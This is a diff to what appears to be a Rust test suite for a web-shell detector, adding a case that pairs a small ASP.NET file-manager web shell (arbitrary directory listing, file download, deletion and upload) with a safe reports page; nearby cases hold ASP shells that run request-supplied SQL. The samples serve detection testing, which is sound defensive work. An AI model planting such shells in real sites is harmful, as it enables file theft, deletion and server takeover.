@@ -254,6 +254,11 @@ fn cases() -> Vec<Case> {
             "<%\nSSIP = Request(\"SSIP\")\nUID = Request(\"UID\")\nSet c = Server.CreateObject(\"ADODB.Connection\")\nc.Open \"Driver={SQL Server};Server=\" & SSIP & \";Uid=\" & UID\nq = \"ALTER TABLE orders ADD note varchar(50) NULL\"\nc.Execute(q)\n%>\n",
         ),
         case(
+            "EXRAY_File_Manager_Request",
+            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Go(object s, EventArgs e) {\n string p = Request[\"p\"];\n var d = new System.IO.DirectoryInfo(p);\n foreach (var x in d.GetDirectories()) Response.Write(x.Name);\n foreach (var f in d.GetFiles()) Response.Write(f.Name);\n if (Request[\"a\"] == \"get\") Response.WriteFile(Request[\"f\"]);\n if (Request[\"a\"] == \"del\") System.IO.File.Delete(Request[\"f\"]);\n if (up.HasFile) up.SaveAs(System.IO.Path.Combine(p, up.FileName));\n}\n</script>\n",
+            "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Go(object s, EventArgs e) {\n var d = new System.IO.DirectoryInfo(Server.MapPath(\"~/reports\"));\n foreach (var f in d.GetFiles(\"*.pdf\")) list.Items.Add(f.Name);\n string n = System.IO.Path.GetFileName(Request[\"f\"]);\n if (n.EndsWith(\".pdf\")) Response.WriteFile(Server.MapPath(\"~/reports/\" + n));\n}\n</script>\n",
+        ),
+        case(
             "EXRAY_SQL_Query_From_Request",
             "<%\nq = Request(\"sql\")\nSet conn = Server.CreateObject(\"ADODB.Connection\")\nconn.Open \"Provider=SQLOLEDB;Server=10.0.0.5;Uid=sa;Pwd=x\"\nSet rs = conn.Execute(q)\nDo Until rs.EOF\nResponse.Write rs(0) & \"<br>\"\nrs.MoveNext\nLoop\n%>\n",
             "<%\nid = Request(\"id\")\nSet conn = Server.CreateObject(\"ADODB.Connection\")\nconn.Open Application(\"cs\")\nsql = \"SELECT title FROM news WHERE id=\" & CLng(id)\nSet rs = conn.Execute(sql)\nResponse.Write Server.HTMLEncode(rs(0))\n%>\n",
